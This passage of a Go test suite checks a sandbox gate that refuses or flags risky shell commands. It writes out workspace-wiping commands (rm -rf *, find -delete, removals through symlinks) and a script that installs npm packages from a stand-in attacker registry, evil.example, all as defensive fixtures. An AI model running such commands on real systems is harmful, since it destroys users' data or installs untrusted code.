		return "profile = \"interactive-dev\"\n[[rules." + effect + "]]\nrule_id=\"keep-precious\"\ncapability=\"process.exec\"\ntarget={command='re:.*precious.*'}\n"
	}
	ev := sandbox.ExecEvent{PID: 7, Exe: "/usr/bin/rm", Argv: []string{"rm", "-rf", "a", "b", "precious"}, ExecPath: "/usr/bin/rm", Cwd: ws}
	for _, effect := range []string{"deny", "ask"} {
		p := policyFor(t, ws, rule(effect))
		var strictest grants.Decision
		for _, r := range execRequests(ev, identity{}, ws) {
			if d := p.DecideExec(r); d.RuleID == "keep-precious" {
				strictest = d
			}
		}
		if strictest.RuleID != "keep-precious" {
			t.Errorf("%s rule: the exec of %q is not decided by it", effect, ev.Argv)
		}
		lr, err := LineRequests(p, "rm -rf a b precious", ws, grants.SurfaceSandbox)
		if err != nil {
			t.Fatal(err)
		}
		// (an ask rule may be preceded by the profile's own ask: asked alike)
		if !slices.ContainsFunc(lr, func(r grants.Request) bool {
			d := p.Decide(r)
			return r.Target.Command == "rm -rf a b precious" && (d.RuleID == "keep-precious" || effect == "ask" && d.Effect == grants.Ask)
		}) {
			t.Errorf("%s rule: the line's requests %+v are not decided by it", effect, lr)
		}
		gate := execGate(context.Background(), (&gateCall{}).env(p), &lineLog{}, nil, &programTable{byFile: map[fileID]*hostProgram{}}, nil, callFacts{})
		if gate(ev) {
			t.Errorf("%s rule: the gate lets %q run", effect, ev.Argv)
		}
	}
}

// TestExecGateEmptyingNotKept: the gate does not keep the answer for a
// removal it decided by listing the workspace: once the entry it spared
// is gone, the same rm -rf a b is every entry and is refused.
func TestExecGateEmptyingNotKept(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	gate := execGate(context.Background(), (&gateCall{}).env(p), &lineLog{}, nil, &programTable{byFile: map[fileID]*hostProgram{}}, nil, callFacts{})
	ev := sandbox.ExecEvent{PID: 7, Exe: "/usr/bin/rm", Argv: []string{"rm", "-rf", "a", "b"}, ExecPath: "/usr/bin/rm", Cwd: ws}
	if !gate(ev) {
		t.Fatal("rm -rf a b refused while c is kept")
	}
	if err := os.Remove(filepath.Join(ws, "c")); err != nil {
		t.Fatal(err)
	}
	if gate(ev) {
		t.Error("rm -rf a b allowed once a and b are every entry of the workspace")
	}
}

// TestExecGateEmptiesWorkspace: in the real sandbox under interactive-dev,
// a script's rm -rf * in the workspace root (its glob expanded by the
// script's shell before rm is exec'd), and its other spellings, is killed
// as rm -rf of the workspace would be, and nothing is removed; removing
// some of the entries runs.
func TestExecGateEmptiesWorkspace(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	entries := []string{"a", "b", "c", ".hidden"}
	for _, tc := range []struct{ name, body, want string }{
		{"rm -rf *", "rm -rf *", "rc=137"},
		{"rm -rf ./*", "rm -rf ./*", "rc=137"},
		{"rm -rf -- *", "rm -rf -- *", "rc=137"},
		{"rm -r .[!.]* *", "rm -r .[!.]* *", "rc=137"},
		{"find -delete", "find . -mindepth 1 -delete", "rc=137"},
		{"from a subfolder", "cd a && rm -rf ../*", "rc=137"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, d := range entries {
				if err := os.MkdirAll(filepath.Join(ws, d, "keep"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte("#!/bin/sh\n"+tc.body+"\necho rc=$?\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			g := &gateCall{}
			out := runTool(t, &Tool{}, g.env(p), "./s.sh")
			if !strings.Contains(out.Stdout, tc.want) || len(out.RefusedPrograms) != 1 || !strings.Contains(out.RefusedPrograms[0], "critical") {
				t.Errorf("stdout %q, refused %q, want %s and one critical refusal (stderr %q)", out.Stdout, out.RefusedPrograms, tc.want, out.Stderr)
			}
			for _, d := range append(entries, "s.sh") {
				if _, err := os.Stat(filepath.Join(ws, d)); err != nil {
					t.Errorf("%s removed: %v", d, err)
				}
			}
		})
	}
	out := runTool(t, &Tool{}, (&gateCall{}).env(p), "rm -rf a b; echo rc=$?")
	if out.Stdout != "rc=0\n" || len(out.RefusedPrograms) != 0 {
		t.Errorf("rm -rf a b (c kept): %+v", out)
	}
}

// TestLineFollowsCd: a line's program is classified in the folder its
// cd leads to, as the exec gate classifies it there: the line's request
// and the program's are the same (risk and approval), and a cd to a
// folder known only when run makes a relative rm -r critical upfront.
func TestLineFollowsCd(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct {
		line, dir string // dir: where rm runs ("": not compared with the gate)
		risk      grants.Risk
	}{
		{"cd /tmp && rm -r x", "/tmp", grants.RiskCritical},
		{"cd /tmp; rm -r x", "/tmp", grants.RiskCritical},
		{"cd -P -- .. && rm -r x", filepath.Dir(ws), grants.RiskCritical},
		{"pushd /tmp && rm -r x", "/tmp", grants.RiskCritical},
		{"cd sub && rm -r x", ws + "/sub", grants.RiskHigh},
		{"cd sub/.. && rm -r x", ws, grants.RiskHigh},
		{"(cd /tmp && ls); rm -r x", ws, grants.RiskHigh},
		{`cd "$d" && rm -r x`, "", grants.RiskCritical},
		{"for d in a b; do cd $d; rm -r x; done", "", grants.RiskCritical},
		{"sh -c 'cd /tmp && rm -r x'", "/tmp", grants.RiskCritical},
	} {
		reqs, err := LineRequests(p, tc.line, ws, grants.SurfaceSandbox)
		if err != nil {
			t.Fatal(err)
		}
		var rm *grants.Request
		for i := range reqs {
			if reqs[i].Target.Resource == "rm" {
				rm = &reqs[i]
			}
		}
		if rm == nil || rm.Risk != tc.risk || tc.dir != "" && rm.Cwd != tc.dir {
			t.Errorf("%s: rm's request %+v, want risk %v in %s", tc.line, rm, tc.risk, tc.dir)
			continue
		}
		if tc.dir == "" {
			continue
		}
		ev := sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: []string{"rm", "-r", "x"}, ExecPath: "/usr/bin/rm", Cwd: tc.dir}
		got := execRequests(ev, identity{}, ws)
		if len(got) != 1 || got[0].KeyInCall() != rm.KeyInCall() || got[0].Key() != rm.Key() || got[0].Risk != rm.Risk {
			t.Errorf("%s: the exec gate decides %+v, the line %+v", tc.line, got, *rm)
		}
	}
}

// TestExecRequestsUnknownCd: at exec time a script's command after a cd
// to a folder known only when run is left to its own exec (decided where
// it runs), so an npm or make script that cds into "$DIR" to clean up is
// not refused for it; a literal cd outside is followed.
func TestExecRequestsUnknownCd(t *testing.T) {
	ws := "/ws"
	for _, tc := range []struct {
		script string
		want   grants.Risk
	}{
		{`cd "$INIT_CWD" && rm -rf dist`, grants.RiskHigh},
		{`cd /tmp && rm -rf dist`, grants.RiskCritical},
		{`cd sub && rm -rf dist`, grants.RiskHigh},
	} {
		ev := sandbox.ExecEvent{Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", tc.script}, ExecPath: "/bin/sh", Cwd: ws}
		risk := grants.RiskLow
		for _, r := range execRequests(ev, identity{}, ws) {
			risk = max(risk, r.Risk)
		}
		if risk != tc.want {
			t.Errorf("sh -c %q: risk %v, want %v", tc.script, risk, tc.want)
		}
	}
}

// TestOutsideRepositoryRefsReadOnly: the ref-changing forms that are not
// git push (update-ref, fetch into a repository) cannot change a local
// repository outside the workspace: it is invisible in the sandbox, or
// read-only when shared as a readable root, so
// a deny or ask rule on git push* has nothing to hold there (a repository
// inside the workspace is the workspace's to change).
func TestOutsideRepositoryRefsReadOnly(t *testing.T) {
	needProgram(t, "git")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	outside, err := os.MkdirTemp("/var/tmp", "gatefix-repo-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(outside) })
	git := func(dir string, args ...string) {
		cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@t"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	for _, d := range []string{outside, ws} {
		git(d, "init", "-q", "-b", "main")
		git(d, "commit", "-q", "--allow-empty", "-m", "x")
	}
	// Shared with the sandbox as a readable root, so git can open it: its
	// refs still cannot change (without that it is not even visible).
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[sandbox]\nreadable = [\""+outside+"\"]\n")
	for _, line := range []string{
		"git -C " + outside + " update-ref refs/heads/made HEAD; echo rc=$?",
		"git -C " + outside + " fetch -q " + ws + " main:made; echo rc=$?",
		"git --git-dir=" + outside + "/.git update-ref refs/heads/made HEAD; echo rc=$?",
	} {
		out := runTool(t, &Tool{}, (&gateCall{}).env(p), line)
		// The refusal is the file system's (not git declining to run).
		if out.Stdout == "rc=0\n" || !strings.Contains(out.Stderr, "Permission denied") {
			t.Errorf("%s: %q, stderr %q: want a failure for want of permission", line, out.Stdout, out.Stderr)
		}
		if _, err := os.Stat(filepath.Join(outside, ".git/refs/heads/made")); err == nil {
			t.Fatalf("%s changed the outside repository's refs", line)
		}
	}
}

// TestEmptyingApproval: a line that empties the workspace and the exec
// its shell makes (the glob expanded) are the same request, so the
// person's approval of the line holds for the program; and only for the
// same program emptying the same folder.
func TestEmptyingApproval(t *testing.T) {
	mk := func() string {
		ws, _ := filepath.EvalSymlinks(t.TempDir())
		for _, d := range []string{"a", "b", "c", ".git"} {
			if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		return ws
	}
	ws, other := mk(), mk()
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	exec := func(ws, cwd string, argv ...string) grants.Request {
		t.Helper()
		g := execRequests(sandbox.ExecEvent{Exe: "/usr/bin/" + argv[0], Argv: argv, ExecPath: "/usr/bin/" + argv[0], Cwd: cwd}, identity{}, ws)
		if len(g) == 0 {
			t.Fatalf("%q: no request", argv)
		}
		return g[0]
	}
	rmABC := []string{"rm", "-rf", "a", "b", "c"}
	for _, tc := range []struct {
		line    string
		ws      string
		argv    []string
		carries bool
	}{
		{"rm -rf *", ws, rmABC, true},
		{"rm -rf ./*", ws, []string{"rm", "-rf", "./a", "./b", "./c"}, true},
		{"rm -rf -- *", ws, []string{"rm", "-rf", "--", "a", "b", "c"}, true},
		// hidden entries named: * spares them, the folder's name does not
		// say it (review rev20 H2): the removal keeps its own words.
		{"rm -rf * .[!.]*", ws, []string{"rm", "-rf", "a", "b", "c", ".git"}, false},
		{"cd a && rm -rf ../*", ws, []string{"rm", "-rf", "../a", "../b", "../c"}, true}, // run in ws/a
		{"rm -rf a b c", ws, rmABC, true},
		{"rm -rf *", other, rmABC, false},                                   // another folder
		{"rm -rf *", ws, []string{"rm", "-r", "a", "b", "c"}, false},        // other options
		{"rm -rf *", ws, []string{"find", "a", "b", "c", "-delete"}, false}, // another program
		// The same removal: the entries named by the folder, the other
		// operand as it is and in its place.
		{"rm -rf * /etc", ws, []string{"rm", "-rf", "a", "b", "c", "/etc"}, true},
		{"rm -rf * /etc", ws, []string{"rm", "-rf", "/etc", "a", "b", "c"}, false},
		{"rm -rf * /etc", ws, []string{"rm", "-rf", "a", "b", "c", "/usr"}, false},
		// Other programs that empty it are named the same way (rev20 M2).
		{"tar --remove-files -cf /tmp/a.tar *", ws, []string{"tar", "--remove-files", "-cf", "/tmp/a.tar", "a", "b", "c"}, true},
		{"tar --remove-files -cf /tmp/a.tar *", ws, []string{"tar", "--remove-files", "-cf", "/tmp/b.tar", "a", "b", "c"}, false},
		{"zip -rm /tmp/a.zip *", ws, []string{"zip", "-rm", "/tmp/a.zip", "a", "b", "c"}, true},
		// a/.. is where a leads (a symlink's target's parent), not ws:
		// the text cannot say x is an entry of ws (review).
		{"rm -rf *", ws, []string{"rm", "-rf", "a", "b", "c", "a/../x"}, false},
	} {
		lr, err := LineRequests(p, tc.line, ws, grants.SurfaceSandbox)
		if err != nil {
			t.Fatal(err)
		}
		var line *grants.Request
		prog := strings.Fields(strings.TrimPrefix(tc.line, "cd a && "))[0]
		for i := range lr {
			if lr[i].Target.Resource == prog {
				line = &lr[i]
			}
		}
		if line == nil || line.Risk != grants.RiskCritical {
			t.Fatalf("%q: line requests %+v, want a critical %s", tc.line, lr, prog)
		}
		cwd := tc.ws
		if strings.HasPrefix(tc.line, "cd a ") {
			cwd += "/a"
		}
		g := exec(tc.ws, cwd, tc.argv...)
		if g.Risk != grants.RiskCritical {
			t.Errorf("%q: exec %q is %v %q, want critical", tc.line, tc.argv, g.Risk, g.Target.Option)
		}
		if got := line.KeyInCall() == g.KeyInCall() && line.Risk == g.Risk; got != tc.carries {
			t.Errorf("%q then %q in %s: approval carries %v, want %v\n line %q %q\n exec %q %q",
				tc.line, tc.argv, tc.ws, got, tc.carries, line.Target.Command, line.Target.Option, g.Target.Command, g.Target.Option)
		}
	}
}

// TestFindEmpties: a find that deletes and whose expression is not shown
// to restrict which entries it reaches removes every entry of its roots:
// critical on the line and at exec alike when a root is the workspace
// (leading options, non-selecting primaries, a delete before the test,
// -exec rm). A find that selects stays high.
func TestFindEmpties(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct {
		argv []string
		want grants.Risk
	}{
		{[]string{"find", "-P", ".", "-delete"}, grants.RiskCritical},
		{[]string{"find", "-H", ".", "-mindepth", "1", "-delete"}, grants.RiskCritical},
		{[]string{"find", "-L", ".", "-delete"}, grants.RiskCritical},
		{[]string{"find", "-O1", ".", "-delete"}, grants.RiskCritical},
		{[]string{"find", "-D", "exec", ".", "-delete"}, grants.RiskCritical},
		{[]string{"find", ".", "-true", "-delete"}, grants.RiskCritical},
		{[]string{"find", ".", "-delete", "-print"}, grants.RiskCritical},
		{[]string{"find", ".", "-name", "*", "-delete"}, grants.RiskCritical},
		{[]string{"find", ".", "-delete", "-name", "zzz"}, grants.RiskCritical},
		{[]string{"find", ".", "-mindepth", "1", "-maxdepth", "99", "-delete"}, grants.RiskCritical},
		{[]string{"find", ".", "-maxdepth", "1", "-mindepth", "1", "-delete"}, grants.RiskCritical},
		{[]string{"find", ".", "-exec", "rm", "-rf", "{}", "+"}, grants.RiskCritical},
		{[]string{"find", ".", "-mindepth", "1", "-exec", "rm", "-r", "{}", ";"}, grants.RiskCritical},
		{[]string{"find", "a", "b", "c", "-exec", "rm", "-rf", "{}", "+"}, grants.RiskCritical},
		{[]string{"find", ".", "-name", "*.o", "-delete"}, grants.RiskHigh},
		{[]string{"find", "-P", ".", "-type", "f", "-name", "*.o", "-delete"}, grants.RiskHigh},
		{[]string{"find", "a", "-delete"}, grants.RiskHigh},
	} {
		g := execRequests(sandbox.ExecEvent{Exe: "/usr/bin/find", Argv: tc.argv, ExecPath: "/usr/bin/find", Cwd: ws}, identity{}, ws)
		if len(g) == 0 || g[0].Risk != tc.want {
			t.Errorf("exec %q: %+v, want %v", tc.argv, g, tc.want)
		}
		line := ""
		for _, w := range tc.argv {
			line += "'" + w + "' "
		}
		lr, err := LineRequests(p, line, ws, grants.SurfaceSandbox)
		if err != nil || len(lr) == 0 || lr[0].Risk != tc.want {
			t.Errorf("line %s: %+v %v, want %v", line, lr, err, tc.want)
		}
	}
}

// TestLineCdMayStayHome: when a cd from the line's folder may not have
// moved the shell (it may fail, or cd may not be the builtin), the line's
// emptying check runs from the line's folder too: bash may remove every
// entry of the workspace there. A cd that is reached keeps its folder.
func TestLineCdMayStayHome(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c", "sub"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct {
		line string
		want grants.Risk
	}{
		{"cd nonexist; rm -rf a b c sub", grants.RiskCritical},
		{"cd sub; rm -rf a b c sub", grants.RiskCritical},
		{"cd sub || true; rm -rf a b c sub", grants.RiskCritical},
		{"! cd sub; rm -rf a b c sub", grants.RiskCritical},
		{"cd() { :; }; cd sub && rm -rf a b c sub", grants.RiskCritical},
		{"function cd { :; }; cd sub && rm -rf a b c sub", grants.RiskCritical},
		{"shopt -s expand_aliases\nalias cd=true\ncd sub && rm -rf a b c sub", grants.RiskCritical},
		{"enable -n cd; cd sub && rm -rf a b c sub", grants.RiskCritical},
		{"cd sub 2>/dev/null; cd ..; rm -rf a b c sub", grants.RiskCritical},
		{"cd sub && rm -rf a b c sub", grants.RiskHigh},
		{"cd sub || exit; rm -rf a b c sub", grants.RiskHigh},
		{"cd nonexist; rm -rf a b", grants.RiskHigh},
	} {
		reqs, err := LineRequests(p, tc.line, ws, grants.SurfaceSandbox)
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		got := grants.RiskLow
		for _, r := range reqs {
			got = max(got, r.Risk)
		}
		if got != tc.want {
			t.Errorf("%q: %v, want %v (%+v)", tc.line, got, tc.want, reqs)
		}
	}
}

// TestEmptyingNamedOnlyWhenPlain: the approval of the line's rm -rf *
// (named by the folder it empties) holds for the script's rm -rf a b c and
// for nothing that removes more: a hidden entry, an operand with a
// trailing "/" or "/." or "//", a symlink (to the workspace itself or out
// of it). Those keep their own words, and are critical.
func TestEmptyingNamedOnlyWhenPlain(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	out, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	line := func() grants.Request {
		lr, err := LineRequests(p, "rm -rf *", ws, grants.SurfaceSandbox)
		if err != nil || len(lr) == 0 {
			t.Fatal(lr, err)
		}
		return lr[0]
	}
	carries := func(l grants.Request, argv ...string) (bool, grants.Risk) {
		g := execRequests(sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: argv, ExecPath: "/usr/bin/rm", Cwd: ws}, identity{}, ws)
		var risk grants.Risk
		for _, r := range g {
			risk = max(risk, r.Risk)
		}
		return slices.ContainsFunc(g, func(r grants.Request) bool { return r.KeyInCall() == l.KeyInCall() && r.Risk == l.Risk }), risk
	}
	if ok, _ := carries(line(), "rm", "-rf", "a", "b", "c"); !ok {
		t.Fatal("the approval of rm -rf * does not hold for rm -rf a b c")
	}
	if ok, _ := carries(line(), "rm", "-rf", "./a", "b", ws+"/c"); !ok {
		t.Error("the approval of rm -rf * does not hold for rm -rf ./a b WS/c")
	}
	if err := os.Mkdir(filepath.Join(ws, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(out, filepath.Join(ws, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".", filepath.Join(ws, "self")); err != nil {
		t.Fatal(err)
	}
	l := line()
	for _, argv := range [][]string{
		{"rm", "-rf", "a", "b", "c", ".git", "link", "self"},
		{"rm", "-rf", "a", "b", "c", "link", "self"},
		{"rm", "-rf", "a", "b", "c", "link/", "self"},
		{"rm", "-rf", "a", "b", "c", "link", "self/"},
		{"rm", "-rf", "a", "b", "c", "link/.", "self"},
		{"rm", "-rf", "a", "b", "c", "link", "./self//"},
		{"rm", "-rf", "a", "b", "c/", "link", "self"},
	} {
		if ok, risk := carries(l, argv...); ok || risk != grants.RiskCritical {
			t.Errorf("%q: carries the approval of rm -rf * %v, risk %v (want no, critical)", argv, ok, risk)
		}
	}
}

// TestRemovalThroughSymlink: a removal whose operand leads through a
// symlink outside the workspace (rm -rf link/, link/*, link/.) or to the
// workspace itself (self/ with self -> .) is critical at exec and on the
// line; removing the link itself (rm -rf link) is not.
func TestRemovalThroughSymlink(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	out, _ := filepath.EvalSymlinks(t.TempDir())
	if err := os.WriteFile(filepath.Join(out, "precious"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, l := range [][2]string{{out, "link"}, {".", "self"}, {out, "sub/deep"}} {
		os.MkdirAll(filepath.Join(ws, filepath.Dir(l[1])), 0o755)
		if err := os.Symlink(l[0], filepath.Join(ws, l[1])); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, tc := range []struct {
		argv []string
		want grants.Risk
	}{
		{[]string{"rm", "-rf", "link/"}, grants.RiskCritical},
		{[]string{"rm", "-rf", "link/precious"}, grants.RiskCritical},
		{[]string{"rm", "-rf", "link/."}, grants.RiskCritical},
		{[]string{"rm", "-rf", "./sub/deep/precious"}, grants.RiskCritical},
		{[]string{"rm", "-rf", "self/"}, grants.RiskCritical},
		{[]string{"rm", "-rf", "link"}, grants.RiskHigh},
		{[]string{"rm", "-rf", "sub"}, grants.RiskHigh},
		{[]string{"rm", "-rf", "gone/x"}, grants.RiskHigh},
	} {
		g := execRequests(sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: tc.argv, ExecPath: "/usr/bin/rm", Cwd: ws}, identity{}, ws)
		if len(g) == 0 || g[0].Risk != tc.want {
			t.Errorf("exec %q: %+v, want %v", tc.argv, g, tc.want)
		}
	}
	for _, line := range []string{"rm -rf link/*", "rm -rf link/"} {
		lr, err := LineRequests(p, line, ws, grants.SurfaceSandbox)
		if err != nil || len(lr) == 0 || lr[0].Risk != grants.RiskCritical {
			t.Errorf("line %q: %+v %v, want critical", line, lr, err)
		}
	}
}

// TestExecGateRemovalThroughSymlink: in the real sandbox, a script's
// rm -rf link/ and rm -rf link/* (link -> a writable root outside the
// workspace) are refused as critical and the outside file stays.
func TestExecGateRemovalThroughSymlink(t *testing.T) {
	for _, body := range []string{"rm -rf link/", "rm -rf link/*"} {
		t.Run(body, func(t *testing.T) {
			ws, _ := filepath.EvalSymlinks(t.TempDir())
			out, _ := filepath.EvalSymlinks(t.TempDir())
			if err := os.WriteFile(filepath.Join(out, "precious"), []byte("x"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(out, filepath.Join(ws, "link")); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte("#!/bin/sh\n"+body+"\necho rc=$?\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			p := policyFor(t, ws, "profile = \"interactive-dev\"\n[sandbox]\nwritable = [\""+out+"\"]\n")
			o := runTool(t, &Tool{}, (&gateCall{}).env(p), "./s.sh")
			if len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "critical") {
				t.Errorf("refused %q, want one critical refusal (stdout %q stderr %q)", o.RefusedPrograms, o.Stdout, o.Stderr)
			}
			if _, err := os.Stat(filepath.Join(out, "precious")); err != nil {
				t.Errorf("the outside file was removed: %v", err)
			}
		})
	}
}

// approvingEnv is the server's mid-action gate with the in-call
// approvals given (matched as server/midaction.go's sameApproval), a
// request's Under settled by them as the server's settleUnder does.
func approvingEnv(p *grants.Policy, approved []grants.Request) *toolkit.Env {
	return &toolkit.Env{Policy: p, Principal: "test", MidAction: func(_ context.Context, r grants.Request, _ grants.Stage) (grants.Decision, error) {
		settled := func(d grants.Decision) bool {
			for _, a := range approved {
				if a.KeyInCall() == d.Request.KeyInCall() && a.Risk == d.Request.Risk && a.Cwd == d.Request.Cwd {
					return true
				}
			}
			return false
		}
		d := p.DecideExec(r)
		if d.Effect == grants.Ask {
			d.Effect = grants.Deny
			if settled(d) {
				d.Effect, d.Reason = grants.Allow, grants.ReasonApproved
			} else if underSettles(p, d, r, settled) {
				d.Effect, d.Reason = grants.Allow, grants.ReasonApproved
			}
		}
		if d.Effect != grants.Allow {
			return d, &toolkit.MidActionRefused{Decision: d}
		}
		return d, nil
	}}
}

// underSettles is server/midaction.go's settleUnder for these tests:
// whether the exec-time ask d of r is settled as r.Under, the push whose
// plumbing r is, is decided (approved, as approved says; allowed unasked,
// only for the built-in ask at critical risk).
func underSettles(p *grants.Policy, d grants.Decision, r grants.Request, approved func(grants.Decision) bool) bool {
	u := r.Under
	if u == nil || u.Capability != r.Capability || u.Target.Resource != r.Target.Resource {
		return false
	}
	switch ud := p.DecideExec(*u); ud.Effect {
	case grants.Ask:
		return approved(ud)
	case grants.Allow:
		return d.RuleID == grants.RuleExecCriticalRisk
	}
	return false
}

// TestExecGateEmptyingDenyRule: in the real sandbox, with the line's
// rm -rf * approved, a script's rm -rf a b precious runs unless a deny
// rule on its words names it: then it is refused and nothing is removed.
func TestExecGateEmptyingDenyRule(t *testing.T) {
	for _, withRule := range []bool{false, true} {
		ws, _ := filepath.EvalSymlinks(t.TempDir())
		for _, d := range []string{"a", "b", "precious"} {
			if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		toml := "profile = \"interactive-dev\"\n"
		if withRule {
			toml += "[[rules.deny]]\nrule_id=\"keep-precious\"\ncapability=\"process.exec\"\ntarget={command='re:.*precious.*'}\n"
		}
		p := policyFor(t, ws, toml)
		lr, err := LineRequests(p, "rm -rf *", ws, grants.SurfaceSandbox)
		if err != nil || len(lr) == 0 {
			t.Fatal(lr, err)
		}
		// (no script file among the entries, and the word is made only
		// when run, so the rule can name nothing but rm's exec)
		o := runTool(t, &Tool{}, approvingEnv(p, lr), `p=prec; rm -rf a b "${p}ious"; echo rc=$?`)
		_, kept := os.Stat(filepath.Join(ws, "precious"))
		if withRule && (kept != nil || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "keep-precious")) {
			t.Errorf("deny rule: refused %q, precious %v (stdout %q)", o.RefusedPrograms, kept, o.Stdout)
		}
		if !withRule && (kept == nil || len(o.RefusedPrograms) != 0) {
			t.Errorf("no rule, approved rm -rf *: refused %q, precious kept %v (stdout %q stderr %q)", o.RefusedPrograms, kept == nil, o.Stdout, o.Stderr)
		}
	}
}

// TestExecGateDecidesInstalls: an install a running program makes (a
// script's `npm i lodash`, which the line never names) is a package.install
// decided at exec: a deny rule (permissive-dev's on every install, one
// naming the package) and strict-production's mode kill it before it runs;
// an ask rule naming the package kills it unless the person approved the
// same install on the line; interactive-dev's ask on every install does not
// (the line was asked; installers install from within an approved
// install), nor does an allow rule under strict-production. The npm here is
// a stand-in on PATH (the gate decides by name): nothing reaches a network.
func TestExecGateDecidesInstalls(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	marker := filepath.Join(ws, "installed")
	files := map[string]string{
		"bin/npm":    "#!/bin/sh\necho \"$@\" > " + marker + "\n",
		"install.sh": "#!/bin/sh\nnpm i lodash\necho rc=$?\n",
		"build.sh":   "#!/bin/sh\nnpm run build\necho rc=$?\n",
		// The index in the program's environment, not its argv.
		"env.sh":   "#!/bin/sh\nexport npm_config_registry=http://evil.example/\nnpm i lodash\necho rc=$?\n",
		"unset.sh": "#!/bin/sh\nunset npm_config_registry\nnpm i lodash\necho rc=$?\n",
		"same.sh":  "#!/bin/sh\nexport npm_config_registry=\"$npm_config_registry\"\nnpm i lodash\necho rc=$?\n",
	}
	for name, body := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	const (
		askLodash  = "\n[[rules.ask]]\nrule_id = \"ask-lodash\"\ncapability = \"package.install\"\ntarget = { resource = \"lodash\" }\n"
		denyLodash = "\n[[rules.deny]]\nrule_id = \"no-lodash\"\ncapability = \"package.install\"\ntarget = { resource = \"lodash\" }\n"
		allowIndex = "\n[[rules.allow]]\nrule_id = \"npm-index\"\ncapability = \"package.install\"\ntarget = { host = \"*\" }\n" +
			"[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n"
		npmIndex = "\n[[rules.allow]]\nrule_id = \"npm-index\"\ncapability = \"package.install\"\ntarget = { host = \"registry.npmjs.org\" }\n" +
			"[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n"
		denyEvil = "\n[[rules.deny]]\nrule_id = \"no-evil\"\ncapability = \"package.install\"\ntarget = { host = \"evil.example\" }\n"
	)
	line := "PATH=" + ws + "/bin:$PATH ./install.sh"
	tests := []struct {
		name, config, script string
		approve, wantRun     bool
		rule                 string
	}{
		{"interactive-dev's ask on every install", `profile = "interactive-dev"`, line, false, true, ""},
		{"an ask rule naming it, not approved", `profile = "interactive-dev"` + askLodash, line, false, false, "ask-lodash"},
		{"an ask rule naming it, approved on the line", `profile = "interactive-dev"` + askLodash, line, true, true, ""},
		{"a deny rule naming it, approved on the line", `profile = "interactive-dev"` + askLodash + denyLodash, line, true, false, "no-lodash"},
		{"permissive-dev's deny", `profile = "permissive-dev"`, line, false, false, "permissive-dev/deny-package-install"},
		{"strict-production's mode", `profile = "strict-production"` + "\n[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n", line, false, false, "mode"},
		{"strict-production, an allow rule", `profile = "strict-production"` + allowIndex, line, false, true, ""},
		{"no install: npm run", `profile = "interactive-dev"` + denyLodash, "PATH=" + ws + "/bin:$PATH ./build.sh", false, true, ""},
		// An index only the program's environment names is decided.
		{"strict-production, the npm registry allowed", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./same.sh", false, true, ""},
